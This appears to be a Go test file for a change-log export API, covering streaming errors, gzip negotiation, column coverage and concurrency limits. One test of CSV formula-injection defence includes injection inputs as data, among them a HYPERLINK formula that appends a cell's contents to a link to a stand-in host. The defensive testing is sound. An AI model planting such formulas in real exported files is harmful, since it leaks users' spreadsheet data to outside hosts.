package api

import (
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"whatchanged/pkg/change"
	"whatchanged/pkg/problem"
)

// What an export sent before something broke must not look like the whole; what
// breaks before anything was sent is told.
func TestExport_ThatBreaksIsSeenToBreak(t *testing.T) {
	a := &API{log: slog.New(slog.DiscardHandler)}
	get := func(rows int, encoding string, fails error) (status int, body []byte, err error) {
		t.Helper()
		server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			a.export(w, r, &exportInput{Format: "ndjson"}, func(row func(change.Change) error) error {
				for range rows {
					if err := row(change.Change{Summary: strings.Repeat("x", 100)}); err != nil {
						return err
					}
				}
				return fails
			})
		}))
		server.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelError)
		server.Start()
		defer server.Close()
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, server.URL, nil)
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Accept-Encoding", encoding)
		res, err := server.Client().Do(r)
		if err != nil {
			return 0, nil, err
		}
		defer res.Body.Close()
		body, err = io.ReadAll(res.Body)
		return res.StatusCode, body, err
	}
	for _, encoding := range []string{"identity", "gzip"} {
		for _, rows := range []int{1, 5000} {
			if _, body, err := get(rows, encoding, errors.New("the store broke")); err == nil {
				t.Errorf("%s, %d rows and then an error: %d bytes, and no error", encoding, rows, len(body))
			}
			if _, body, err := get(rows, encoding, nil); err != nil || len(body) == 0 {
				t.Errorf("%s, %d rows: %d bytes, %v", encoding, rows, len(body), err)
			}
		}
	}
	status, body, err := get(0, "gzip", problem.BusyFor(time.Second, "store_unavailable", "try again", nil))
	if err != nil || status != http.StatusServiceUnavailable || !strings.Contains(string(body), `"reason":"store_unavailable"`) {
		t.Errorf("an error at once: %d, %s, %v", status, body, err)
	}
}

// B23: a spreadsheet computes nothing.
func TestExport_CellsAreNeverFormulas(t *testing.T) {
	f := func(cell, want string) {
		t.Helper()
		if got := harmless(cell); got != want {
			t.Errorf("%q: %q, want %q", cell, got, want)
		}
	}
	f("", "")
	f("Deploy v2", "Deploy v2")
	f("a=b", "a=b")
	f(`=HYPERLINK("http://example.com/"&A1)`, `'=HYPERLINK("http://example.com/"&A1)`)
	f("+1", "'+1")
	f("-1", "'-1")
	f("@SUM(A1)", "'@SUM(A1)")
	f("\t=1", "'\t=1")
	f("\r=1", "'\r=1")
	f("\n=1", "'\n=1")
}

func TestExport_CompressesForWhoeverAcceptsIt(t *testing.T) {
	f := func(header string, want bool) {
		t.Helper()
		if acceptsGzip(header) != want {
			t.Errorf("%q: %t", header, !want)
		}
	}
	f("gzip", true)
	f("deflate, GZIP;q=0.5", true)
	f("*", true)
	f("", false)
	f("identity", false)
	f("gzip;q=0", false)
	f("br, gzip; q=0.0", false)
}

// Every field of a change is in the table, and is one that can be selected.
func TestExport_TableHasEveryField(t *testing.T) {
	in := map[string]bool{}
	for _, c := range columns {
		in[c.field] = true
	}
	for _, name := range changeFields {
		if !in[name] {
			t.Errorf("%s has no column", name)
		}
		delete(in, name)
	}
	for name := range in {
		t.Errorf("a column is of %s, which a change has not", name)
	}
}

func TestSlots_AreForAllAndForEachKey(t *testing.T) {
	s := newSlots(3, 2)
	enter := func(key, reason string) func() {
		t.Helper()
		leave, err := s.enter(key)
		if reason == "" && err != nil || reason != "" && (err == nil || problem.From(err).Reason != reason) {
			t.Fatalf("%s: %v, want %q", key, err, reason)
		}
		return leave
	}
	leave := enter("a", "")
	enter("a", "")
	enter("a", "too_many_exports")
	enter("b", "")
	enter("c", "too_many_exports")
	leave()
	enter("a", "")
	if len(s.byKey) != 2 {
		t.Errorf("keys: %v", s.byKey)
	}
}
